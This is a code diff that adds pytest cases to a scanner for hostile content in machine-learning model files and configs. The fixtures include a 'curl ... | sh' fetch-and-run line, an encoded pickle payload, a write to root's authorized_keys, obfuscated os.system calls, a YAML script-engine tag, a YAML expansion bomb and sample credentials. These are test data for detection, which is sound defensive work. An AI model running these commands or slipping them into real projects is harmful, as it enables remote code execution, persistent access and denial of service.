@@ -1,5 +1,6 @@
 """Files by somebody who did not write the readers: what one class hides behind another."""
 
+import base64
 import gzip
 import io
 import json
@@ -220,3 +221,98 @@ def test_tensors_of_a_checkpoint_inside_a_zip_are_counted_where_they_are(tmp_pat
     (tmp_path / "m.zip").write_bytes(zipped(Part("a.txt", b"x" * 77), Part("m.pt", inner)))
     found = inspect(tmp_path / "m.zip", Settings(sandbox=False))
     assert [item.message for item in found.findings] == ["weight (1 NaN, 0 infinite)"]
+
+
+def tensors(metadata: dict[str, str]) -> bytes:
+    """A safetensors file with one tensor."""
+    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
+    header = json.dumps({"__metadata__": metadata, "w": entry}).encode()
+    return len(header).to_bytes(8, "little") + header + np.float32(1).tobytes()
+
+
+METADATA = {
+    "text/personal": "SSN 536-90-4399",
+    "pickle/encoded": base64.b64encode(EVIL).decode(),
+    "text/endpoint": "http://203.0.113.5:8080/collect",
+}
+
+
+@pytest.mark.parametrize("rule", METADATA)
+def test_the_metadata_of_safetensors_is_read_as_text_is(rule: str, tmp_path: Path) -> None:
+    assert rule in rules(look(tmp_path, tensors({"note": METADATA[rule]}), "model.safetensors"))
+    assert not look(tmp_path, tensors({"format": "pt"}), "model.safetensors").findings
+
+
+@pytest.mark.parametrize("address", ["127.0.0.1", "192.168.1.7", "10.0.0.1", "[::1]"])
+def test_an_address_of_ones_own_network_is_no_endpoint(address: str, tmp_path: Path) -> None:
+    raw = json.dumps({"server": f"http://{address}:8000/v1"}).encode()
+    assert not look(tmp_path, raw, "config.json").findings
+
+
+DRAWN = "q7ZkP2mXv9Lr4TbN8sWc5HdJ3fYg6KaE"
+SECRETS = {
+    "assigned": ("config.json", json.dumps({"api_key": DRAWN})),
+    "checksum-wrong": ("config.json", json.dumps({"x": "ghp_" + DRAWN + "AbC1"})),
+    "specimen-in-data": ("config.json", json.dumps({"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE"})),
+    "slack": ("a.txt", "https://hooks.slack.com/services/T0A1B2C3D/B0A1B2C3D/" + DRAWN[:24]),
+    "azure": ("a.txt", "AccountKey=" + base64.b64encode(bytes(range(64))).decode()),
+}
+
+
+@pytest.mark.parametrize("case", SECRETS)
+def test_credentials_beyond_the_usual_ones_are_found(case: str, tmp_path: Path) -> None:
+    name, words = SECRETS[case]
+    assert "text/secret" in rules(look(tmp_path, words.encode(), name))
+
+
+PLAIN_TEXTS = {
+    "README.md": "Set AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE, api_key=YOUR_API_KEY_GOES_HERE",
+    "run.json": '{"api_key": "${OPENAI_API_KEY_FROM_ENVIRONMENT}", "pad_token": "xxxxxxxxxxxxx"}',
+    "config.json": '{"secret_key": "environment_variable_of_the_server"}',
+}
+
+
+@pytest.mark.parametrize("name", PLAIN_TEXTS)
+def test_what_explains_a_key_is_none(name: str, tmp_path: Path) -> None:
+    assert not look(tmp_path, PLAIN_TEXTS[name].encode(), name).findings
+
+
+CODE = {
+    "star-import": "from os import *\nsystem('true')\n",
+    "vars": "import os\nvars(os)['system']('true')\n",
+    "replaced-builtin": "import builtins\nbuiltins.print = eval\n",
+    "key-file": "open('/root/.ssh/authorized_keys', 'a').write('x')\n",
+}
+
+
+@pytest.mark.parametrize("case", CODE)
+def test_code_by_another_way_is_found(case: str, tmp_path: Path) -> None:
+    found = look(tmp_path, CODE[case].encode(), "modeling.py")
+    assert rules(found) & {"python/runs-on-import", "python/obfuscated"}
+
+
+FETCHING = [
+    ("Dockerfile", "FROM python\nRUN curl http://h.example/x | sh\n", "script/hostile-command"),
+    ("package.json", '{"x": "curl http://h.example/x | sh"}', "script/hostile-command"),
+    ("environment.yml", "- pip:\n  - git+https://h.example/x.git\n", "requirements/url"),
+    ("pyproject.toml", 'requires = ["e @ git+https://h.example/x.git"]\n', "requirements/url"),
+    ("requirements.txt", "-r http://h.example/r.txt\n", "requirements/url"),
+    ("config.yaml", "x: !!javax.script.ScriptEngineManager []\n", "yaml/foreign-tag"),
+    ("config.json", '{"_name_or_path": "http://h.example/m"}', "config/remote-location"),
+    ("config.json", '{"_name_or_path": "//h.example/share/m"}', "config/remote-location"),
+]
+
+
+@pytest.mark.parametrize(("name", "words", "rule"), FETCHING)
+def test_what_other_programs_run_or_fetch_is_named(
+    name: str, words: str, rule: str, tmp_path: Path
+) -> None:
+    assert rule in rules(look(tmp_path, words.encode(), name))
+
+
+def test_anchors_that_repeat_each_other_are_a_bomb(tmp_path: Path) -> None:
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x]"]
+    lines += [f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 8)}]" for at in range(1, 9)]
+    assert "yaml/expansion" in rules(look(tmp_path, "\n".join(lines).encode(), "c.yaml"))
+    plain = b"base: &base\n  lr: 0.1\na:\n  <<: *base\nb:\n  <<: *base\n"
+    assert not look(tmp_path, plain, "c.yaml").findings
